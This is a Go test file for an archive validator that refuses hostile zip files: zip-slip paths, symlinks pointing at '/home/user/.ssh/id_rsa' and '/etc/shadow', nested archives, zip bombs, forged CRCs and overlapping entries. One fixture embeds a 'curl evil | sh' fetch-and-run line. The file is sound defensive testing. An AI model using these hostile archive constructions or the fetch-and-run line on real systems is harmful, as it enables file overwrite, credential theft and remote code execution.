package build

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"time"

	kflate "github.com/klauspost/compress/flate"
)

var updateArchiveSeeds = flag.Bool("update-archive-seeds", false, "rewrite build/testdata/archive from the in-code archives")

// zent is one entry for makeZip.
type zent struct {
	name  string
	body  string
	store bool        // use zip.Store rather than zip.Deflate
	mode  fs.FileMode // applied with SetMode when non-zero
	flags uint16
}

var zipTime = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)

// makeZip writes the entries with archive/zip's Writer, deflating with
// klauspost's flate (much faster than the standard one on long runs of zeros).
func makeZip(t testing.TB, entries ...zent) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	w.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) {
		return kflate.NewWriter(w, kflate.DefaultCompression)
	})
	for _, e := range entries {
		fh := &zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: zipTime, Flags: e.flags}
		if e.store {
			fh.Method = zip.Store
		}
		if e.mode != 0 {
			fh.SetMode(e.mode)
		}
		fw, err := w.CreateHeader(fh)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(fw, e.body); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// makeRawZip writes one entry whose header fields, sizes included, are taken
// as given, followed by data as the compressed bytes.
func makeRawZip(t testing.TB, fh *zip.FileHeader, data []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	fh.Modified = zipTime
	fw, err := w.CreateRaw(fh)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fw.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func deflate(t testing.TB, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	fw, err := kflate.NewWriter(&buf, kflate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	fw.Write(b)
	if err := fw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// patchCentral finds the central directory record of name and lets patch
// change its bytes in place. Offsets inside rec: 4 version made by, 8 flags,
// 10 method, 16 crc, 20 compressed size, 24 size, 38 external attributes,
// 42 local header offset.
func patchCentral(t testing.TB, b []byte, name string, patch func(rec []byte)) {
	t.Helper()
	for i := 0; i+46 <= len(b); i++ {
		if string(b[i:i+4]) != "PK\x01\x02" {
			continue
		}
		n := int(binary.LittleEndian.Uint16(b[i+28:]))
		if i+46+n <= len(b) && string(b[i+46:i+46+n]) == name {
			patch(b[i : i+46+n])
			return
		}
	}
	t.Fatalf("no central directory record for %q", name)
}

func openZipBytes(b []byte, lim ArchiveLimits) (fs.FS, error) {
	return OpenZip(bytes.NewReader(b), int64(len(b)), lim)
}

func wantRule(t *testing.T, err error, rule string) {
	t.Helper()
	var ae *ArchiveError
	if !errors.As(err, &ae) {
		t.Fatalf("got error %v, want an *ArchiveError with rule %s", err, rule)
	}
	if ae.Rule != rule || !strings.Contains(err.Error(), "(rule "+rule+")") {
		t.Fatalf("got %q (rule %s), want rule %s", err, ae.Rule, rule)
	}
}

func zeros(n int) string { return string(make([]byte, n)) }

// zipOfZeros returns a zip holding one entry of n zero bytes, written in
// chunks so that no n-byte buffer is needed.
func zipOfZeros(t testing.TB, name string, n int) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	w.RegisterCompressor(zip.Deflate, func(w io.Writer) (io.WriteCloser, error) {
		return kflate.NewWriter(w, kflate.BestSpeed)
	})
	fw, err := w.Create(name)
	if err != nil {
		t.Fatal(err)
	}
	chunk := make([]byte, 64<<10)
	for n > 0 {
		k, _ := fw.Write(chunk[:min(n, len(chunk))])
		n -= k
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// innerZip is a small well-formed zip, to be hidden inside another.
func innerZip(t testing.TB) string {
	return string(makeZip(t, zent{name: "payload.sh", body: "curl evil | sh\n"}))
}

// gzipped returns s gzipped; writing to memory cannot fail.
func gzipped(s string) string {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	io.WriteString(zw, s)
	zw.Close()
	return buf.String()
}

// tarred returns a one-file ustar archive; writing to memory cannot fail.
func tarred() string {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	body := "hidden\n"
	tw.WriteHeader(&tar.Header{Name: "x.txt", Mode: 0o644, Size: int64(len(body)), Format: tar.FormatUSTAR})
	io.WriteString(tw, body)
	tw.Close()
	return buf.String()
}

// ratioData returns size bytes (random then zeros) that makeZip deflates at a
// ratio in [lo, hi).
func ratioData(t testing.TB, size int, lo, hi int) string {
	t.Helper()
	random := make([]byte, size)
	rand.NewChaCha8([32]byte{1}).Read(random)
	data := make([]byte, size)
	a, b := 0, size
	for a < b {
		r := (a + b) / 2
		clear(data)
		copy(data, random[:r])
		z := makeZip(t, zent{name: "x", body: string(data)})
		zr, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
		if err != nil {
			t.Fatal(err)
		}
		ratio := int(uint64(size) / zr.File[0].CompressedSize64)
		switch {
		case ratio >= lo && ratio < hi:
			return string(data)
		case ratio >= hi:
			a = r + 1
		default:
			b = r
		}
	}
	t.Fatalf("no mix of %d bytes deflates at %d..%d:1", size, lo, hi)
	return ""
}

// hostileCase is an archive OpenZip must refuse.
type hostileCase struct {
	name string
	rule string
	lim  ArchiveLimits // zero fields take the defaults
	seed bool          // also kept in testdata/archive as <rule>.zip
	zip  func(t testing.TB) []byte
}

func hostileCases() []hostileCase {
	one := func(name, body string) func(t testing.TB) []byte {
		return func(t testing.TB) []byte {
			return makeZip(t, zent{name: "ok.md", body: "fine"}, zent{name: name, body: body})
		}
	}
	return []hostileCase{
		{name: "zip slip", rule: ArchiveRuleZipSlip, seed: true, zip: one("../evil.sh", "x")},
		{name: "zip slip deep", rule: ArchiveRuleZipSlip, zip: one("skills/a/../../../x", "x")},
		{name: "absolute path", rule: ArchiveRuleZipSlip, zip: one("/etc/cron.d/x", "x")},
		{name: "drive letter", rule: ArchiveRuleZipSlip, zip: one("C:/Windows/x", "x")},
		{name: "drive relative", rule: ArchiveRuleZipSlip, zip: one("c:x", "x")},
		{name: "backslash", rule: ArchiveRuleZipSlip, zip: one(`skills\..\..\x`, "x")},
		{name: "empty segment", rule: ArchiveRuleBadName, seed: true, zip: one("a//b.md", "x")},
		{name: "dot segment", rule: ArchiveRuleBadName, zip: one("./a.md", "x")},
		{name: "inner dot segment", rule: ArchiveRuleBadName, zip: one("a/./b.md", "x")},
		{name: "empty name", rule: ArchiveRuleBadName, zip: one("", "x")},
		{name: "invalid utf-8", rule: ArchiveRuleBadName, zip: one("caf\xe9.md", "x")},
		{name: "duplicate", rule: ArchiveRuleDuplicate, seed: true, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "s/SKILL.md", body: "a"}, zent{name: "s/SKILL.md", body: "b"})
		}},
		{name: "case-fold duplicate", rule: ArchiveRuleDuplicate, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "s/SKILL.md", body: "a"}, zent{name: "s/skill.md", body: "b"})
		}},
		{name: "case-fold duplicate directory", rule: ArchiveRuleDuplicate, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "Skill/SKILL.md", body: "a"}, zent{name: "skill/notes.md", body: "b"})
		}},
		{name: "kelvin sign folds to k", rule: ArchiveRuleDuplicate, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "k.md", body: "a"}, zent{name: "\u212a.md", body: "b"})
		}},
		{name: "file and directory", rule: ArchiveRuleDuplicate, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "a", body: "a"}, zent{name: "a/b.md", body: "b"})
		}},
		{name: "directory then file", rule: ArchiveRuleDuplicate, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "a/b.md", body: "b"}, zent{name: "a", body: "a"})
		}},
		{name: "duplicate directory", rule: ArchiveRuleDuplicate, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "d/"}, zent{name: "d/"})
		}},
		{name: "symlink", rule: ArchiveRuleSymlink, seed: true, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "s/SKILL.md", body: "a"},
				zent{name: "s/key", body: "/home/user/.ssh/id_rsa", mode: fs.ModeSymlink | 0o777})
		}},
		{name: "symlink bits under a dos creator", rule: ArchiveRuleSymlink, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "s/key", body: "/etc/shadow"})
			patchCentral(t, b, "s/key", func(rec []byte) {
				binary.LittleEndian.PutUint16(rec[4:], 20) // made by MS-DOS, version 2.0
				binary.LittleEndian.PutUint32(rec[38:], 0o120777<<16)
			})
			return b
		}},
		{name: "named pipe", rule: ArchiveRuleNotRegular, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "fifo", mode: fs.ModeNamedPipe | 0o644})
		}},
		{name: "device", rule: ArchiveRuleNotRegular, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "sda", mode: fs.ModeDevice | 0o644})
		}},
		{name: "directory without slash", rule: ArchiveRuleNotRegular, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "dir", mode: fs.ModeDir | 0o755})
		}},
		{name: "encrypted", rule: ArchiveRuleEncrypted, seed: true, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "secret.md", body: "x", flags: 0x1})
		}},
		{name: "encrypted by patch", rule: ArchiveRuleEncrypted, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "secret.md", body: "x"})
			patchCentral(t, b, "secret.md", func(rec []byte) { rec[8] |= 0x1 })
			return b
		}},
		{name: "method 12", rule: ArchiveRuleMethod, seed: true, zip: func(t testing.TB) []byte {
			return makeRawZip(t, &zip.FileHeader{Name: "x.md", Method: 12, CompressedSize64: 3, UncompressedSize64: 3}, []byte("BZh"))
		}},
		{name: "deflate64", rule: ArchiveRuleMethod, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "x.md", body: "hello"})
			patchCentral(t, b, "x.md", func(rec []byte) { binary.LittleEndian.PutUint16(rec[10:], 9) })
			return b
		}},
		{name: "nested zip renamed txt", rule: ArchiveRuleNestedArchive, seed: true, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "s/SKILL.md", body: "a"}, zent{name: "s/notes.txt", body: innerZip(t)})
		}},
		{name: "nested zip stored", rule: ArchiveRuleNestedArchive, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "s/readme", body: innerZip(t), store: true})
		}},
		{name: "tgz by name", rule: ArchiveRuleNestedArchive, zip: one("s/notes.tgz", "just text")},
		{name: "tar.gz by name upper case", rule: ArchiveRuleNestedArchive, zip: one("s/X.TAR.GZ", "just text")},
		{name: "jar by name", rule: ArchiveRuleNestedArchive, zip: one("s/lib.jar", "just text")},
		{name: "gzip content", rule: ArchiveRuleNestedArchive, zip: one("s/data.md", gzipped("hello"))},
		{name: "tar content", rule: ArchiveRuleNestedArchive, zip: one("s/data.md", tarred())},
		{name: "7z content", rule: ArchiveRuleNestedArchive, zip: one("s/data.bin", "7z\xbc\xaf\x27\x1c\x00\x04")},
		{name: "too many entries", rule: ArchiveRuleTooManyEntries, lim: ArchiveLimits{MaxEntries: 3}, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "a"}, zent{name: "b"}, zent{name: "c"}, zent{name: "d"})
		}},
		{name: "bomb with a lying central directory", rule: ArchiveRuleDeclaredSize, seed: true, zip: func(t testing.TB) []byte {
			big := make([]byte, 8<<20)
			comp := deflate(t, big)
			return makeRawZip(t, &zip.FileHeader{Name: "bomb.md", Method: zip.Deflate,
				CRC32: crc32.ChecksumIEEE(big[:100]), CompressedSize64: uint64(len(comp)), UncompressedSize64: 100}, comp)
		}},
		{name: "entry over the entry limit", rule: ArchiveRuleEntrySize, lim: ArchiveLimits{MaxEntryBytes: 64 << 10},
			zip: one("big.md", strings.Repeat("lorem ipsum ", 10<<10))},
		{name: "entry over the default entry limit", rule: ArchiveRuleEntrySize, zip: func(t testing.TB) []byte {
			return zipOfZeros(t, "big.md", 64<<20+1)
		}},
		{name: "total over the total limit", rule: ArchiveRuleTotalSize, lim: ArchiveLimits{MaxTotalBytes: 100 << 10}, zip: func(t testing.TB) []byte {
			s := strings.Repeat("lorem ipsum ", 40<<10/12)
			return makeZip(t, zent{name: "a.md", body: s}, zent{name: "b.md", body: s}, zent{name: "c.md", body: s})
		}},
		{name: "101:1 above the floor", rule: ArchiveRuleRatio, zip: func(t testing.TB) []byte {
			return makeZip(t, zent{name: "s/data.md", body: ratioData(t, 2<<20, 101, 102)})
		}},
		{name: "zeros above the floor", rule: ArchiveRuleRatio, seed: true, zip: one("zeros.md", zeros(1<<20+1))},
		{name: "corrupted data", rule: ArchiveRuleChecksum, seed: true, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "s/SKILL.md", body: "original text", store: true})
			i := bytes.Index(b, []byte("original"))
			b[i] = 'O'
			return b
		}},
		{name: "overlapping entries", rule: ArchiveRuleOverlap, seed: true, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "a.md", body: "same size", store: true}, zent{name: "b.md", body: "same size", store: true})
			var off []byte
			patchCentral(t, b, "a.md", func(rec []byte) { off = bytes.Clone(rec[42:46]) })
			patchCentral(t, b, "b.md", func(rec []byte) { copy(rec[42:46], off) })
			return b
		}},
		{name: "data past the end", rule: ArchiveRuleFormat, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "a.md", body: "hello", store: true})
			patchCentral(t, b, "a.md", func(rec []byte) { binary.LittleEndian.PutUint32(rec[20:], 1<<30) })
			return b
		}},
		{name: "directory with data", rule: ArchiveRuleFormat, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "d/"})
			patchCentral(t, b, "d/", func(rec []byte) { binary.LittleEndian.PutUint32(rec[24:], 5) })
			return b
		}},
		{name: "not a zip", rule: ArchiveRuleFormat, zip: func(testing.TB) []byte { return []byte("just some text, no archive here") }},
		{name: "truncated", rule: ArchiveRuleFormat, zip: func(t testing.TB) []byte {
			b := makeZip(t, zent{name: "a.md", body: "hello"})
			return b[:len(b)-10]
		}},
	}
}

func TestOpenZipRefuses(t *testing.T) {
	for _, c := range hostileCases() {
		t.Run(c.name, func(t *testing.T) {
			fsys, err := openZipBytes(c.zip(t), c.lim)
			if fsys != nil {
				t.Errorf("got a file system along with error %v", err)
			}
			wantRule(t, err, c.rule)
		})
	}
}

func TestOpenZipErrorText(t *testing.T) {
	_, err := openZipBytes(makeZip(t, zent{name: "../x", body: "x"}), ArchiveLimits{})
	if got, want := err.Error(), `archive entry "../x": segment .. is a parent-folder reference (rule zip-slip)`; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	// A hostile name is quoted, so it cannot forge lines in a log.
	_, err = openZipBytes(makeZip(t, zent{name: "a\nwarning: all good/../x", body: "x"}), ArchiveLimits{})
	if err == nil || strings.Contains(err.Error(), "\n") {
		t.Errorf("error holds a raw newline: %q", err)
	}
}

func TestOpenZipRatioFloor(t *testing.T) {
	for _, c := range []struct {
		name string
		body func(t testing.TB) string
	}{
		{"200 KB of zeros, below the floor", func(testing.TB) string { return zeros(200 << 10) }},
		{"1 MiB of zeros, at the floor", func(testing.TB) string { return zeros(1 << 20) }},
		{"2 MiB at 90:1, above the floor", func(t testing.TB) string { return ratioData(t, 2<<20, 90, 100) }},
	} {
		t.Run(c.name, func(t *testing.T) {
			body := c.body(t)
			fsys, err := openZipBytes(makeZip(t, zent{name: "s/data.md", body: body}), ArchiveLimits{})
			if err != nil {
				t.Fatal(err)
			}
			got, err := fs.ReadFile(fsys, "s/data.md")
			if err != nil || string(got) != body {
				t.Fatalf("read back %d bytes, err %v; want %d bytes", len(got), err, len(body))
			}
		})
	}
}

func TestOpenZipLimitsAreInclusive(t *testing.T) {
	s := strings.Repeat("x", 1000)
	z := makeZip(t, zent{name: "a", body: s}, zent{name: "b", body: s}, zent{name: "c/"})
	if _, err := openZipBytes(z, ArchiveLimits{MaxEntries: 3, MaxEntryBytes: 1000, MaxTotalBytes: 2000}); err != nil {
		t.Fatalf("archive exactly at its limits: %v", err)
	}
	_, err := openZipBytes(z, ArchiveLimits{MaxEntries: 3, MaxEntryBytes: 1000, MaxTotalBytes: 1999})
	wantRule(t, err, ArchiveRuleTotalSize)
	_, err = openZipBytes(z, ArchiveLimits{MaxEntries: 3, MaxEntryBytes: 999})
	wantRule(t, err, ArchiveRuleEntrySize)
	_, err = openZipBytes(z, ArchiveLimits{MaxEntries: 2})
	wantRule(t, err, ArchiveRuleTooManyEntries)
}

func TestDefaultArchiveLimits(t *testing.T) {
	want := ArchiveLimits{MaxEntries: 8192, MaxEntryBytes: 64 << 20, MaxTotalBytes: 256 << 20, MaxRatio: 100, RatioFloor: 1 << 20}
	if got := DefaultArchiveLimits(); got != want {
		t.Errorf("DefaultArchiveLimits() = %+v, want %+v", got, want)
	}
	if got := (ArchiveLimits{MaxEntries: 5}).WithDefaults(); got.MaxEntries != 5 || got.MaxTotalBytes != want.MaxTotalBytes {
		t.Errorf("WithDefaults kept %+v", got)
	}
}

// wrapperZip is a GitHub "Download ZIP" style archive: one wrapper folder,
// explicit directory entries, an executable script, stored and deflated files.
func wrapperZip(t testing.TB) []byte {
	return makeZip(t,
		zent{name: "pack-main/"},
		zent{name: "pack-main/README.md", body: "# pack\n"},
		zent{name: "pack-main/skills/"},
		zent{name: "pack-main/skills/refunds/"},
		zent{name: "pack-main/skills/refunds/SKILL.md", body: "---\nname: refunds\ndescription: Refund rules.\n---\nBody.\n"},
		zent{name: "pack-main/skills/refunds/scripts/run.sh", body: "#!/bin/sh\necho hi\n", mode: 0o755},
		zent{name: "pack-main/skills/refunds/data.csv", body: strings.Repeat("a,b,c\n", 500), store: true},
		zent{name: "pack-main/skills/empty.md", body: ""},
	)
}

func TestOpenZipWrapperFolder(t *testing.T) {
	fsys, err := openZipBytes(wrapperZip(t), ArchiveLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if err := fstest.TestFS(fsys,
		"pack-main/README.md",
		"pack-main/skills/refunds/SKILL.md",
		"pack-main/skills/refunds/scripts/run.sh",
		"pack-main/skills/refunds/data.csv",
		"pack-main/skills/empty.md",
	); err != nil {
		t.Fatal(err)
	}
	root, err := fs.ReadDir(fsys, ".")
	if err != nil || len(root) != 1 || root[0].Name() != "pack-main" || !root[0].IsDir() {
		t.Fatalf("root = %v, %v; want the one wrapper folder", root, err)
	}
	fi, err := fs.Stat(fsys, "pack-main/skills/refunds/scripts/run.sh")
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode() != 0o644 {
		t.Errorf("script mode %v, want -rw-r--r-- whatever the archive says", fi.Mode())
	}
	got, err := fs.ReadFile(fsys, "pack-main/skills/refunds/data.csv")
	if err != nil || string(got) != strings.Repeat("a,b,c\n", 500) {
		t.Errorf("data.csv: %d bytes, %v", len(got), err)
	}
}

func TestOpenZipImpliedDirectories(t *testing.T) {
	fsys, err := openZipBytes(makeZip(t,
		zent{name: "a/b/c/SKILL.md", body: "c"},
		zent{name: "a/b/d.md", body: "d"},
		zent{name: "e.md", body: "e"},
	), ArchiveLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if err := fstest.TestFS(fsys, "a/b/c/SKILL.md", "a/b/d.md", "e.md"); err != nil {
		t.Fatal(err)
	}
	fi, err := fs.Stat(fsys, "a/b")
	if err != nil || !fi.IsDir() || fi.Mode() != fs.ModeDir|0o755 {
		t.Errorf("a/b: %v, %v; want an implied directory", fi, err)
	}
	for _, bad := range []string{"../a", "/a", "a/", "a/../e.md", "missing"} {
		if _, err := fsys.Open(bad); err == nil {
			t.Errorf("Open(%q) succeeded", bad)
		}
	}
}

func TestOpenZipEmpty(t *testing.T) {
	fsys, err := openZipBytes(makeZip(t), ArchiveLimits{})
	if err != nil {
		t.Fatal(err)
	}
	if err := fstest.TestFS(fsys); err != nil {
		t.Fatal(err)
	}
}

// storedAt returns the offset of name's data, which must be stored.
func storedAt(t *testing.T, b []byte, name string) int {
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range zr.File {
		if f.Name == name {
			off, err := f.DataOffset()
			if err != nil {
				t.Fatal(err)
			}
			return int(off)
		}
	}
	t.Fatalf("no entry %q", name)
	return 0
}

// forgeCRC changes data[p] and then the 4 bytes at q so that the CRC-32 of
// data is the same as before: CRC-32 is affine, so the 32 bits at q can
// cancel any change elsewhere.
func forgeCRC(t *testing.T, data []byte, p, q int) {
	before := crc32.ChecksumIEEE(data)
	zero := crc32.ChecksumIEEE(make([]byte, len(data)))
	lin := func(delta []byte) uint32 { return crc32.ChecksumIEEE(delta) ^ zero }
	delta := make([]byte, len(data))
	delta[p] = 0x5a
	target := lin(delta)
	// Gaussian elimination over GF(2): pivots[i] has top bit i; comb says
	// which bits at q it is made of.
	var pivots [32]struct{ v, comb uint32 }
	for i := range 32 {
		e := make([]byte, len(data))
		e[q+i/8] = 1 << (i % 8)
		v, comb := lin(e), uint32(1)<<i
		for b := 31; b >= 0 && v != 0; b-- {
			if v>>b&1 == 0 {
				continue
			}
			if pivots[b].v == 0 {
				pivots[b].v, pivots[b].comb = v, comb
				break
			}
			v, comb = v^pivots[b].v, comb^pivots[b].comb
		}
	}
	var comb uint32
	for b := 31; b >= 0; b-- {
		if target>>b&1 != 0 {
			if pivots[b].v == 0 {
				t.Fatal("crc forge: no solution")
			}
			target, comb = target^pivots[b].v, comb^pivots[b].comb
		}
	}
	data[p] ^= 0x5a
	for i := range 32 {
		if comb>>i&1 != 0 {
			data[q+i/8] ^= 1 << (i % 8)
		}
	}
	if crc32.ChecksumIEEE(data) != before {
		t.Fatal("crc forge failed")
	}
}

func TestOpenZipServesOnlyValidatedBytes(t *testing.T) {
	const body = "rm nothing; this script was reviewed\n"
	b := makeZip(t, zent{name: "s/SKILL.md", body: "a"}, zent{name: "s/run.sh", body: body, store: true})
	fsys, err := openZipBytes(b, ArchiveLimits{})
	if err != nil {
		t.Fatal(err)
	}
	off := storedAt(t, b, "s/run.sh")

	// Swap bytes behind the validated FS, keeping the CRC-32 intact: only
	// the SHA-256 taken at validation notices.
	forgeCRC(t, b[off:off+len(body)], 0, 10)
	_, err = fs.ReadFile(fsys, "s/run.sh")
	wantRule(t, err, ArchiveRuleChanged)
	var pe *fs.PathError
	if !errors.As(err, &pe) || pe.Path != "s/run.sh" {
		t.Errorf("error %v is not a *fs.PathError for s/run.sh", err)
	}

	// A plain change breaks the CRC-32 as well.
	b[off+20] ^= 1
	f, err := fsys.Open("s/run.sh")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	_, err = io.ReadAll(f)
	wantRule(t, err, ArchiveRuleChanged)

	// The untouched file still reads.
	if got, err := fs.ReadFile(fsys, "s/SKILL.md"); err != nil || string(got) != "a" {
		t.Errorf("SKILL.md: %q, %v", got, err)
	}
}

func TestIsArchiveName(t *testing.T) {
	for name, want := range map[string]bool{
		"a.zip": true, "b/C.TGZ": true, "x.tar.gz": true, "x.tar.bz2": true, "x.tar.xz": true,
		"x.7z": true, "x.rar": true, "x.jar": true, "x.war": true, "x.ear": true, "x.apk": true,
		"x.iso": true, "x.dmg": true, "x.cab": true, "x.gz": true, "x.bz2": true, "x.xz": true, "x.tar": true,
		`dir\payload.zip`: true,
		"SKILL.md":        false, "zip": false, "notes.zipper": false, "archive.md": false, "a.tar.md": false,
	} {
		if got := IsArchiveName(name); got != want {
			t.Errorf("IsArchiveName(%q) = %v, want %v", name, got, want)
		}
	}
}

func TestSniffArchive(t *testing.T) {
	iso := make([]byte, archiveSniffLen)
	copy(iso[0x8001:], "CD001")
	for _, c := range []struct {
		head string
		want string
	}{
		{innerZip(t), "zip"},
		{"PK\x05\x06" + zeros(18), "zip"},
		{gzipped("x"), "gzip"},
		{tarred(), "tar"},
		{"BZh91AY&SY rest", "bzip2"},
		{"\xfd7zXZ\x00\x00", "xz"},
		{"7z\xbc\xaf\x27\x1c", "7z"},
		{"Rar!\x1a\x07\x01\x00", "rar"},
		{"\x28\xb5\x2f\xfd\x00", "zstd"},
		{"MSCF\x00\x00\x00\x00", "cab"},
		{string(iso), "iso"},
		{"BZh is how this text starts", ""},
		{"PK is not enough", ""},
		{"# SKILL\n", ""},
		{"", ""},
	} {
		if got := SniffArchive([]byte(c.head)); got != c.want {
			t.Errorf("SniffArchive(%.12q) = %q, want %q", c.head, got, c.want)
		}
	}
}

func TestCheckZipName(t *testing.T) {
	for _, c := range []struct {
		raw, name string
		dir       bool
	}{
		{"a.md", "a.md", false},
		{"a/b/", "a/b", true},
		{"pack-main/skills/x/SKILL.md", "pack-main/skills/x/SKILL.md", false},
		{"..a/b..", "..a/b..", false},
		{"ünïcode/名前.md", "ünïcode/名前.md", false},
	} {
		name, dir, rule, err := checkZipName(c.raw)
		if err != nil || name != c.name || dir != c.dir {
			t.Errorf("checkZipName(%q) = %q, %v, %s, %v; want %q, %v", c.raw, name, dir, rule, err, c.name, c.dir)
		}
	}
}

// seedDir holds the fuzz seeds: ok-*.zip open, <rule>.zip is refused by rule.
const seedDir = "testdata/archive"

func TestArchiveSeeds(t *testing.T) {
	if *updateArchiveSeeds {
		os.MkdirAll(seedDir, 0o755)
		write := func(name string, b []byte) {
			if err := os.WriteFile(filepath.Join(seedDir, name), b, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		write("ok-wrapper.zip", wrapperZip(t))
		write("ok-flat.zip", makeZip(t, zent{name: "SKILL.md", body: "---\nname: x\n---\n"}, zent{name: "ref/a.md", body: "a"}))
		for _, c := range hostileCases() {
			if c.seed {
				write(c.rule+".zip", c.zip(t))
			}
		}
	}
	seeds, err := filepath.Glob(filepath.Join(seedDir, "*.zip"))
	if err != nil || len(seeds) < 10 {
		t.Fatalf("%d seeds in %s (%v); run go test -run TestArchiveSeeds -update-archive-seeds", len(seeds), seedDir, err)
	}
	for _, p := range seeds {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		base := strings.TrimSuffix(filepath.Base(p), ".zip")
		_, err = openZipBytes(b, ArchiveLimits{})
		if strings.HasPrefix(base, "ok-") {
			if err != nil {
				t.Errorf("%s: %v", p, err)
			}
			continue
		}
		wantRule(t, err, base)
	}
}

func FuzzOpenZip(f *testing.F) {
	seeds, _ := filepath.Glob(filepath.Join(seedDir, "*.zip"))
	for _, p := range seeds {
		b, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b)
	}
	f.Add(makeZip(f, zent{name: "a/", body: ""}, zent{name: "a/b", body: "b", store: true}))
	lim := ArchiveLimits{MaxEntries: 64, MaxEntryBytes: 1 << 20, MaxTotalBytes: 4 << 20, RatioFloor: 64 << 10}
	f.Fuzz(func(t *testing.T, b []byte) {
		fsys, err := openZipBytes(b, lim)
		if err != nil {
			var ae *ArchiveError
			if !errors.As(err, &ae) || ae.Rule == "" {
				t.Fatalf("error without a rule: %v", err)
			}
			return
		}
		// The bytes did not change, so everything validated must read back.
		err = fs.WalkDir(fsys, ".", func(p string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return err
			}
			data, err := fs.ReadFile(fsys, p)
			if err == nil && int64(len(data)) != mustSize(fsys, p) {
				err = fmt.Errorf("%s: read %d bytes, stat says otherwise", p, len(data))
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	})
}

func mustSize(fsys fs.FS, p string) int64 {
	fi, err := fs.Stat(fsys, p)
	if err != nil {
		return -1
	}
	return fi.Size()
}

func BenchmarkOpenZip(b *testing.B) {
	var entries []zent
	for i := range 1000 {
		entries = append(entries, zent{
			name: fmt.Sprintf("pack/skills/s%03d/ref/file%d.md", i/10, i%10),
			body: strings.Repeat(fmt.Sprintf("line %d of a reference file, somewhat repetitive\n", i), 40),
		})
	}
	z := makeZip(b, entries...)
	b.SetBytes(int64(len(z)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := openZipBytes(z, ArchiveLimits{}); err != nil {
			b.Fatal(err)
		}
	}
}

// countingReader counts the bytes read through it.
type countingReader struct {
	r io.ReaderAt
	n atomic.Int64
}

func (c *countingReader) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.r.ReadAt(p, off)
	c.n.Add(int64(n))
	return n, err
}

// TestOpenZipDirectoryBudget shows that an archive with far more entries
// than allowed is refused before its whole central directory is read into
// memory: archive/zip would otherwise build a record for every entry.
func TestOpenZipDirectoryBudget(t *testing.T) {
	ents := make([]zent, 20000)
	for i := range ents {
		ents[i] = zent{name: fmt.Sprintf("s/f%05d", i), store: true}
	}
	data := makeZip(t, ents...)
	lim := ArchiveLimits{MaxEntries: 100}
	cr := &countingReader{r: bytes.NewReader(data)}
	_, err := OpenZip(cr, int64(len(data)), lim)
	wantRule(t, err, ArchiveRuleTooManyEntries)
	if budget := int64(128+lim.MaxEntries) << 10; cr.n.Load() > budget {
		t.Errorf("read %d bytes of a %d-byte archive before refusing it, over the %d-byte budget", cr.n.Load(), len(data), budget)
	}
	t.Log(err)
	// An archive with as many entries as allowed opens.
	small := makeZip(t, ents[:100]...)
	if _, err := OpenZip(bytes.NewReader(small), int64(len(small)), lim); err != nil {
		t.Errorf("100 entries at MaxEntries 100: %v", err)
	}
}
